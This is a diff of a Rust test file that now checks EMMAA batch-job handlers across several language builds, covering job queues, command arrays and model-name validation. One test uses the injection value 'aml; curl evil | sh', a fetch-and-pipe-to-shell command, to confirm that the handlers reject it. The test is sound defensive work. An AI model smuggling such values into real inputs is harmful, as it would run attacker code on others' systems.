@@ -43,13 +43,16 @@ async fn model_stats_queries_and_test_update_submit_their_jobs() {
         ),
     ];
     for (guest, name, purpose, script) in cases {
-        let outcome = run(guest, json!({"model": "aml"}), bucket(&[])).await;
-        assert_eq!(outcome.status_code(), Some(200), "{guest}");
-        assert_eq!(
-            actions(&outcome),
-            json!([submit(&format!("aml_{name}_{STAMP}"), purpose, script)]),
-            "{guest}"
-        );
+        for (language, build) in support::builds(guest) {
+            let outcome =
+                support::run_build(&build, guest, json!({"model": "aml"}), bucket(&[]), settings(&[])).await;
+            assert_eq!(outcome.status_code(), Some(200), "{guest} ({language})");
+            assert_eq!(
+                actions(&outcome),
+                json!([submit(&format!("aml_{name}_{STAMP}"), purpose, script)]),
+                "{guest} ({language})"
+            );
+        }
     }
 }
 
@@ -100,53 +103,90 @@ async fn model_tests_refuses_bad_model_and_corpus_naming_both() {
 
 #[tokio::test]
 async fn batch_handlers_refuse_a_bad_model_event_naming_field_and_value() {
-    for guest in ["model_updates", "model_stats", "model_queries", "test_update"] {
-        let outcome = run(guest, json!({"model": "aml; curl evil | sh"}), bucket(&[])).await;
+    let builds = ["model_updates", "model_stats", "model_queries", "test_update"]
+        .into_iter()
+        .flat_map(|guest| {
+            support::builds(guest)
+                .into_iter()
+                .map(move |(language, build)| (guest, language, build))
+        });
+    for (guest, language, build) in builds {
+        let run = |event| support::run_build(&build, guest, event, bucket(&[]), settings(&[]));
+        let outcome = run(json!({"model": "aml; curl evil | sh"})).await;
         assert_eq!(outcome.response(), None);
         assert_eq!(
             outcome.error_message().as_deref(),
             Some(
                 "model \"aml; curl evil | sh\" is not a valid model name: it must match ^[A-Za-z0-9][A-Za-z0-9_-]*$"
             ),
-            "{guest}"
+            "{guest} ({language})"
         );
-        assert!(outcome.actions.is_empty(), "{guest}");
-        let outcome = run(guest, json!({"model": 42}), bucket(&[])).await;
+        assert!(outcome.actions.is_empty(), "{guest} ({language})");
+        let outcome = run(json!({"model": 42})).await;
         assert_eq!(
             outcome.error_message().as_deref(),
             Some("model must be a string, got 42"),
-            "{guest}"
+            "{guest} ({language})"
         );
     }
 }
 
 #[tokio::test]
 async fn large_models_get_the_large_queue_and_definition() {
-    let settings = settings(&[("EMMAA_LARGE_MODELS", "covid19, aml")]);
-    let outcome = run_with("model_updates", json!({"model": "aml"}), bucket(&[]), settings).await;
-    let submitted = &actions(&outcome)[0];
-    assert_eq!(submitted["job_queue"], "emmaa-after-update");
-    assert_eq!(submitted["job_definition"], "emmaa_testing_jobs_def");
+    for guest in ["model_updates", "model_stats"] {
+        for (language, build) in support::builds(guest) {
+            let settings = settings(&[("EMMAA_LARGE_MODELS", "covid19, aml")]);
+            let outcome =
+                support::run_build(&build, guest, json!({"model": "aml"}), bucket(&[]), settings).await;
+            let submitted = &actions(&outcome)[0];
+            assert_eq!(
+                submitted["job_queue"], "emmaa-after-update",
+                "{guest} ({language})"
+            );
+            assert_eq!(
+                submitted["job_definition"], "emmaa_testing_jobs_def",
+                "{guest} ({language})"
+            );
+        }
+    }
 }
 
 #[tokio::test]
 async fn an_empty_branch_drops_the_branch_option() {
-    let settings = settings(&[("EMMAA_BRANCH", ""), ("EMMAA_PROJECT", "emmaa")]);
-    let outcome = run_with("model_queries", json!({"model": "aml"}), bucket(&[]), settings).await;
-    assert_eq!(
-        actions(&outcome)[0]["command"],
-        json!([
-            "python",
-            "-m",
-            "indra.util.aws",
-            "run_in_batch",
-            "--project",
-            "emmaa",
-            "--purpose",
+    let cases = [
+        (
+            "model_queries",
             "update-emmaa-queries",
-            "bash scripts/git_and_run.sh python scripts/answer_queries_from_s3.py --model aml"
-        ])
-    );
+            "answer_queries_from_s3.py --model aml",
+        ),
+        (
+            "model_stats",
+            "update-emmaa-model-stats",
+            "run_model_stats_from_s3.py --model aml --stats_mode model",
+        ),
+    ];
+    for (guest, purpose, script) in cases {
+        for (language, build) in support::builds(guest) {
+            let settings = settings(&[("EMMAA_BRANCH", ""), ("EMMAA_PROJECT", "emmaa")]);
+            let outcome =
+                support::run_build(&build, guest, json!({"model": "aml"}), bucket(&[]), settings).await;
+            assert_eq!(
+                actions(&outcome)[0]["command"],
+                json!([
+                    "python",
+                    "-m",
+                    "indra.util.aws",
+                    "run_in_batch",
+                    "--project",
+                    "emmaa",
+                    "--purpose",
+                    purpose,
+                    format!("bash scripts/git_and_run.sh python scripts/{script}")
+                ]),
+                "{guest} ({language})"
+            );
+        }
+    }
 }
 
 #[tokio::test]
